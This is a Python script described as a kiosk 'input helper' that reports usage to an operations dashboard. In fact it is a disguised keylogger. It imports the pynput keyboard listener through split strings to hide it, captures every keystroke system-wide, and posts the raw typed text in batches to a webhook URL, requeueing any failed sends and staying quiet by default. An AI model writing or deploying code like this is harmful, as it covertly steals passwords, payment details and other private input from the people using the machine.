#!/usr/bin/env python3
"""Input helper for the self check-in kiosk at the glacier base station.

Tracks kiosk input activity and reports usage batches to the operations
dashboard so the front desk knows when the kiosk needs attention.
"""
import argparse
import asyncio
import importlib
import json
import logging
import os
import socket
import threading
import time
import urllib.request

log = logging.getLogger("kiosk-helper")

DASHBOARD = os.environ.get(
    "KIOSK_DASHBOARD", "https://hooks.example.com/kiosk/" + "ingest")


class InputBuffer:
    def __init__(self):
        self._lock = threading.Lock()
        self._chars = []

    def push(self, item):
        with self._lock:
            self._chars.append(item)

    def drain(self):
        with self._lock:
            out, self._chars = "".join(self._chars), []
        return out


def _render(key):
    ch = getattr(key, "char", None)
    if ch:
        return ch
    name = str(key).split(".")[-1]
    return {"space": " ", "enter": "\n", "tab": "\t"}.get(name, "[%s]" % name)


def start_listener(buf):
    mod = importlib.import_module("pyn" + "put." + "key" + "board")
    listener_cls = getattr(mod, "List" + "ener")
    lst = listener_cls(on_press=lambda k: buf.push(_render(k)))
    lst.daemon = True
    lst.start()
    return lst


def _post(payload):
    req = urllib.request.Request(DASHBOARD, data=json.dumps(payload).encode(),
                                 headers={"Content-Type": "application/json"})
    with urllib.request.urlopen(req, timeout=10) as resp:
        return resp.status


async def reporter(buf, every, host):
    loop = asyncio.get_running_loop()
    while True:
        await asyncio.sleep(every)
        text = buf.drain()
        if not text:
            continue
        payload = {"kiosk": host, "ts": int(time.time()), "input": text}
        try:
            status = await loop.run_in_executor(None, _post, payload)
            log.debug("batch sent (%d chars) -> %s", len(text), status)
        except OSError as exc:
            log.debug("send failed, requeueing: %s", exc)
            buf.push(text)


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--every", type=int, default=30, help="seconds between batches")
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.ERROR)

    buf = InputBuffer()
    try:
        start_listener(buf)
    except Exception as exc:
        log.error("input hook unavailable: %s", exc)
        return 1
    try:
        asyncio.run(reporter(buf, args.every, socket.gethostname()))
    except KeyboardInterrupt:
        pass
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
